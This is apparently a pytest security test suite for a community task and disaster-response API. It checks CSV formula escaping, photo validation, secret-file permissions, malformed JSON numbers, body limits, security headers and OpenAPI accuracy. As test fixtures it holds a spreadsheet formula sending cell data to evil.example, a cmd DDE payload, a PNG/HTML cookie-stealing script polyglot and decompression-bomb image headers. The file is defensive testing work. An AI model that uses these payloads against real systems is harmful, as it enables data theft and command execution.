"""The API's edges as an attacker meets them, over a real server: numbers JSON has not, huge values and
bodies, missing security headers, an OpenAPI document that says less than the server does, spreadsheet
formulas in the score board's CSV, photos that are not the images they claim, secrets other users can read."""

import base64
import csv
import hashlib
import io
import os
import re
import stat
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from api.auth import Role
from tests.api.server import MAP, ROOT, Api, Server, api_for

DEMO = ROOT / "api" / "examples" / "flood.json"


@dataclass
class World:
    server: Server
    street: Api
    head: Api
    member: Api  # a cadre with a part of the photo task


def png(width: int, height: int, idat: bytes | None = None) -> bytes:
    """A PNG of RGB rows (``idat``: the compressed rows as given instead, e.g. none at all)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    if idat is None:
        idat = zlib.compress(b"".join(b"\x00" + b"\x20\x80\xd0" * width for _ in range(height)))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (4, 3), (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


def upload(data: bytes, content_type: str = "image/png") -> dict[str, str]:
    return {"content_type": content_type, "data": base64.b64encode(data).decode()}


@pytest.fixture(scope="module")
def world(server: Server) -> Iterator[World]:
    street = Api(server, server.token(Role.STREET, street="s1"))
    street.ok("PUT", "/communities/c1/members/h1", {"name": "赵书记", "role": "head"})
    street.ok("PUT", "/communities/c1/members/ca", {"name": "钱干部", "role": "cadre"})
    yield World(
        server,
        street,
        api_for(server, Role.CADRE, name="h1"),
        api_for(server, Role.CADRE, name="ca"),
    )


# -- CSV: a text cell never runs as a formula -------------------------------------------------------------

FORMULAS = {
    "-sum": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1,2)",
    "minus": "-2+3",
}


def test_scores_csv_writes_formula_like_text_as_text(world: World) -> None:
    for member, name in FORMULAS.items():
        world.street.ok("PUT", f"/communities/c1/members/{member}", {"name": name, "role": "cadre"})
    exported = world.street.get("/streets/s1/scores.csv")
    assert exported.status_code == 200, exported.text
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    # Members by their names (the sheet names people, never their ids): each formula-like name escaped.
    by_name = {row[1]: row for row in rows if len(row) > 2}
    for name in FORMULAS.values():
        assert "'" + name in by_name, sorted(by_name)
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")], rows
    # Plain text and numbers are left as they are.
    assert by_name["钱干部"][2] == "0", by_name["钱干部"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# -- photos: decoded, not judged by their first bytes ---------------------------------------------------

# Headers claiming 10^10 pixels (the decoder would allocate 30 GB) and 48 million, over the limit of 40.
HUGE = png(100_000, 100_000, idat=zlib.compress(b""))
LARGE = png(8000, 6000, idat=zlib.compress(b""))
SMALL = png(4, 3)
# PNG magic, then a web page: a browser shown it as text/html would run it.
HTML = b"\x89PNG\r\n\x1a\n<html><script>alert(document.cookie)</script></html>"
BAD_PHOTOS = {
    "a header claiming 100000x100000 pixels": (upload(HUGE), "pixels"),
    "PNG magic followed by HTML": (upload(HTML), "image/png"),
    "a PNG cut short": (upload(png(40, 40)[:-30]), "image/png"),
    # The pixels' checksum (the four bytes before the closing chunk) zeroed.
    "a PNG whose checksum is wrong": (upload(SMALL[:-16] + bytes(4) + SMALL[-12:]), "image/png"),
    "a JPEG sent as a PNG": (upload(jpeg()), "JPEG"),
    "a PNG sent as a WebP": (upload(SMALL, "image/webp"), "not image/webp"),
    "too many pixels for the limit": (upload(LARGE), "8000×6000"),
}


@pytest.fixture(scope="module")
def photo_task(world: World) -> str:
    due = (datetime.now(UTC) + timedelta(days=40)).isoformat()
    task = world.street.ok(
        "POST",
        "/streets/s1/tasks",
        {"title": "拍照", "due_at": due, "points": 10, "evidence": ["photo"], "communities": ["c1"]},
    )["id"]
    world.head.ok(
        "PUT",
        f"/communities/c1/tasks/{task}/parts",
        {"parts": [{"title": "拍照", "assignee": "ca", "points": 10}]},
    )
    return str(task)


@pytest.mark.parametrize("name", BAD_PHOTOS, ids=list(BAD_PHOTOS))
def test_a_photo_that_does_not_decode_as_claimed_is_refused(world: World, photo_task: str, name: str) -> None:
    photo, says = BAD_PHOTOS[name]
    response = world.member.post(f"/communities/c1/tasks/{photo_task}/parts/p1/submission", {"photo": photo})
    assert response.status_code == 422, response.text
    problem = response.json()
    assert problem["field"] == "photo.data" and says in problem["detail"], problem
    assert world.member.ok("GET", f"/communities/c1/tasks/{photo_task}")["parts"][0]["status"] != "submitted"


def test_a_real_photo_is_stored(world: World, photo_task: str) -> None:
    photo = jpeg()
    response = world.member.post(
        f"/communities/c1/tasks/{photo_task}/parts/p1/submission", {"photo": upload(photo, "image/jpeg")}
    )
    assert response.status_code == 200, response.text
    sha = response.json()["parts"][0]["evidence"]["photo"]
    stored = world.member.get(f"/communities/c1/photos/{sha}")
    assert stored.content == photo and stored.headers["content-type"] == "image/jpeg"


# -- files holding secrets are the service user's alone ---------------------------------------------------


def test_the_database_and_demo_tokens_are_mode_600_in_a_folder_mode_700(tmp_path: Path) -> None:
    data = tmp_path / "fresh" / "data"
    # Under the commonest umask (022) a file is created readable by every user unless the server says not.
    umask = os.umask(0o022)
    try:
        server = Server(tmp_path, extra=["--demo", str(DEMO), "--data-dir", str(data)]).start()
    finally:
        os.umask(umask)
    try:
        log = (tmp_path / "server.log").read_text(encoding="utf-8")
        token = re.search(r"^\s+\S+\s+cadre\s+(pz_\S+)$", log, re.M)
        assert token is not None, log
        # A write, so that SQLite's write-ahead log and its index exist.
        cadre = Api(server, token.group(1))
        cadre.ok(
            "POST",
            "/communities/qingshui/needs",
            {"capability": "rescue.boat", "quantity": 1, "location": "g1_1", "priority": 3},
        )
        files = {p.name: stat.S_IMODE(p.stat().st_mode) for p in data.iterdir()}
        assert {"pingzhan.db", "pingzhan.db-wal", "pingzhan.db-shm", "demo-tokens.json"} <= files.keys(), (
            files
        )
        assert {name: mode for name, mode in files.items() if mode & 0o077} == {}, {
            n: oct(m) for n, m in files.items()
        }
        assert stat.S_IMODE(data.stat().st_mode) == 0o700
    finally:
        server.stop()


# -- numbers JSON has not, echoes that stay small, bodies over their route's limit ------------------------

N = "/communities/c1/needs"
NEED = '{"capability": "rescue.boat", "quantity": 1, "location": "g1_1", "priority": 3'
BAD_NUMBERS = {
    # Python's parser takes these, though JSON has no such numbers; echoed, the answer could not be encoded.
    "NaN": (NEED + ', "max_travel_s": NaN}', "max_travel_s", "NaN"),
    "Infinity": (NEED.replace('"quantity": 1', '"quantity": Infinity') + "}", "quantity", "Infinity"),
    "-Infinity in a list": (
        NEED + ', "team": [{"capability": "rescue.crew", "per_unit": -Infinity}]}',
        "team[0].per_unit",
        "-Infinity",
    ),
    "a float past the largest": (NEED + ', "max_travel_s": 1e999}', "max_travel_s", "1e999"),
    "a whole number past 64 bits": (
        NEED + ', "max_travel_s": 9223372036854775808}',
        "max_travel_s",
        "9223372036854775808",
    ),
    # Past Python's 4,300-digit limit on reading whole numbers: was a 400 naming nothing.
    "a whole number of 5,000 digits": (
        NEED + ', "max_travel_s": ' + "7" * 5000 + "}",
        "max_travel_s",
        "7" * 90,
    ),
}


@pytest.mark.parametrize("name", BAD_NUMBERS, ids=list(BAD_NUMBERS))
def test_a_number_json_has_not_is_refused_naming_the_field(world: World, name: str) -> None:
    body, field, says = BAD_NUMBERS[name]
    before = world.street.ok("GET", N)
    response = world.head.client.post(N, content=body.encode(), headers={"content-type": "application/json"})
    assert response.status_code == 422, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    problem = response.json()
    assert problem["field"] == field and says in problem["detail"], problem
    assert len(response.content) < 1000
    assert world.street.ok("GET", N) == before


@pytest.mark.parametrize(
    ("body", "says"),
    [
        # Found by schemathesis: was a 400 "There was an error parsing the body", which no route documents.
        (NEED.encode() + b', "note": "\xff\xfe"}', "not UTF-8 text (byte 89)"),
        (b"[" * 100_000 + b"]" * 100_000, "too deep"),
    ],
    ids=["bytes that are not text", "arrays nested too deep"],
)
def test_a_json_body_that_cannot_be_read_is_refused_as_invalid(world: World, body: bytes, says: str) -> None:
    response = world.head.client.post(
        "/communities", content=body, headers={"content-type": "application/json"}
    )
    assert response.status_code == 422, response.text
    assert response.json()["field"] == "" and says in response.json()["detail"]


def test_an_invalid_value_is_echoed_once_and_bounded(world: World) -> None:
    note = "长" * 20_000  # 60 KB of UTF-8, under the body limit; the field takes 1,000 characters
    response = world.head.post(
        N, {"capability": "rescue.boat", "quantity": 1, "location": "g1_1", "priority": 3, "note": note}
    )
    assert response.status_code == 422, response.text
    problem = response.json()
    assert (
        problem["field"] == "note"
        and "长" * 50 in problem["detail"]
        and "20002 characters" in problem["detail"]
    )
    assert response.text.count("长" * 50) == 1 and len(response.content) < 1000


def test_a_body_over_its_routes_limit_is_refused_before_it_is_read(world: World) -> None:
    big = {
        "capability": "rescue.boat",
        "quantity": 1,
        "location": "g1_1",
        "priority": 3,
        "note": "x" * 70_000,
    }
    response = world.head.post(N, big)
    assert response.status_code == 413, response.text
    problem = response.json()
    assert response.headers["content-type"].startswith("application/problem+json")
    assert (
        problem["limit"] == 65536
        and "65536" in problem["detail"]
        and "POST /api/v1/communities/c1/needs" in problem["detail"]
    )
    # Sent in chunks with no length announced: counted as it arrives.
    chunked = world.head.client.post(
        N,
        content=iter([b'{"note": "', b"x" * 40_000, b"x" * 40_000, b'"}']),
        headers={"content-type": "application/json"},
    )
    assert chunked.status_code == 413 and chunked.json()["limit"] == 65536


def test_the_photo_route_takes_a_photo_sized_body_and_no_more(world: World, photo_task: str) -> None:
    submission = f"/communities/c1/tasks/{photo_task}/parts/p1/submission"
    # 6 MB of photo: over the photo limit (5 MB), under the route's (8 MiB): refused by the photo check.
    photo = upload(b"\xff\xd8\xff" + bytes(6_000_000), "image/jpeg")
    response = world.member.post(submission, {"photo": photo})
    assert response.status_code == 422 and response.json()["field"] == "photo.data", response.text[:300]
    response = world.member.post(submission, {"photo": upload(bytes(6_400_000), "image/jpeg")})
    assert response.status_code == 413 and response.json()["limit"] == 8 * 1024 * 1024, response.text[:300]


# -- security headers; a health check that says nothing else ----------------------------------------------

SECURITY = {
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "x-frame-options": "DENY",
}


def test_every_response_carries_the_security_headers(world: World) -> None:
    url = world.server.url
    responses = {
        "health": httpx.get(f"{url}/healthz"),
        "console": httpx.get(f"{url}/"),
        "console module": httpx.get(f"{url}/app.js"),
        "api": world.head.get("/communities/c1"),
        "no token": httpx.get(f"{url}/api/v1/communities"),
        "not found": httpx.get(f"{url}/nowhere.js"),
        "too large": world.head.post(N, {"note": "x" * 70_000}),
        "openapi": httpx.get(f"{url}/openapi.json"),
    }
    for name, response in responses.items():
        assert {k: response.headers.get(k) for k in SECURITY} == SECURITY, name
        policy = dict(d.strip().split(" ", 1) for d in response.headers["content-security-policy"].split(";"))
        assert policy["default-src"] == "'self'" and policy["script-src"] == "'self'", name
        assert (
            policy["frame-ancestors"] == "'none'"
            and "unsafe-inline" not in response.headers["content-security-policy"]
        )
        assert policy["connect-src"] == "'self' ws: wss:"


def test_health_says_only_ok(world: World) -> None:
    response = httpx.get(f"{world.server.url}/healthz")
    assert response.status_code == 200 and response.json() == {"ok": True}


# -- the OpenAPI document says what the server answers; its pages need no internet ------------------------


def test_the_openapi_document_lists_each_routes_errors_as_problem_details(world: World) -> None:
    doc = httpx.get(f"{world.server.url}/openapi.json").json()
    operations = {(m.upper(), p): o for p, methods in doc["paths"].items() for m, o in methods.items()}

    def statuses(method: str, path: str) -> set[str]:
        return set(operations[(method, path)]["responses"])

    c = "/api/v1/communities/{community}"
    assert statuses("GET", "/healthz") == {"200"}
    assert statuses("GET", "/api/v1/me") == {"200", "401", "429"}
    assert statuses("GET", "/api/v1/communities") == {"200", "401", "429"}
    # 304: a caller holding the body's ETag (api/responses.py).
    assert statuses("GET", f"{c}/needs") == {"200", "304", "401", "403", "404", "422", "429"}
    assert statuses("POST", f"{c}/needs") == {"201", "401", "403", "404", "409", "413", "422", "429"}
    assert statuses("POST", "/api/v1/communities") == {"201", "401", "403", "404", "409", "413", "422", "429"}
    for (method, path), operation in operations.items():
        for status, response in operation["responses"].items():
            if status.startswith("4"):
                assert response["content"] == {
                    "application/problem+json": {"schema": {"$ref": "#/components/schemas/ProblemDetails"}}
                }, (method, path, status)
    assert operations[("GET", f"{c}/needs")]["responses"]["401"]["headers"]["WWW-Authenticate"]
    assert operations[("GET", f"{c}/needs")]["responses"]["429"]["headers"]["Retry-After"]
    assert "HTTPValidationError" not in doc["components"]["schemas"]
    problem = doc["components"]["schemas"]["ProblemDetails"]
    assert set(problem["required"]) == {"type", "title", "status", "detail"}
    # What the server answers is what the document says, for a few real refusals.
    answers = {
        ("GET", f"{c}/needs", 404): world.head.get("/communities/c3/needs"),
        ("GET", f"{c}/needs", 401): httpx.get(f"{world.server.url}/api/v1/communities/c1/needs"),
        ("POST", "/api/v1/communities", 403): world.head.post(
            "/communities", {"id": "c9", "street": "s1", "profile": "fast_test", "map": MAP}
        ),
        ("POST", f"{c}/organisations", 409): world.street.post(
            "/communities/c1/organisations", {"id": "c1-boats", "kind": "enterprise"}
        ),
        ("POST", f"{c}/needs", 413): world.head.post(N, {"note": "x" * 70_000}),
    }
    for (method, path, status), response in answers.items():
        assert response.status_code == status, (method, path, response.text[:200])
        assert str(status) in statuses(method, path)


def test_the_docs_pages_load_only_files_from_this_server(world: World) -> None:
    url = world.server.url
    for page, assets in (("/docs", 3), ("/redoc", 2)):
        response = httpx.get(url + page)
        assert response.status_code == 200 and response.headers["content-type"].startswith("text/html")
        found = re.findall(r'(?:src|href)="([^"]+)"', response.text)
        assert len(found) == assets and all(a.startswith("/docs-assets/") for a in found), found
        assert "http" not in response.text.replace("http-equiv", "")
        for asset in found:
            fetched = httpx.get(url + asset)
            assert fetched.status_code == 200 and len(fetched.content) > 1000, asset
        # Their own policy: the page's one inline script by its hash, no inline script else, no framing.
        policy = dict(d.strip().split(" ", 1) for d in response.headers["content-security-policy"].split(";"))
        scripts = re.findall(r"<script>(.*?)</script>", response.text, re.S)
        hashes = {
            "'sha256-" + base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() + "'" for s in scripts
        }
        assert set(policy["script-src"].split()) == {"'self'", *hashes}
        assert policy["frame-ancestors"] == "'none'"
